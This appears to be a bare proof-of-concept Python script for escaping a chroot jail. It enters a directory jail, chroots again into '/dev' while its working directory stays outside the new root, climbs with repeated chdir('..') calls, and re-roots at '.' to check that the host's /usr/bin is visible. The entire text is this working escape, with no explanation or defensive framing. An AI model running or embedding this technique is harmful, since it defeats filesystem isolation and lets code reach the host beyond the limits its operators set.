import os

os.chroot("station")
os.chdir("/")
print("host:", os.path.exists("/usr/bin"))

os.chroot("/dev")
for step in range(20):
    os.chdir("..")
os.chroot(".")
print("host:", os.path.exists("/usr/bin"))
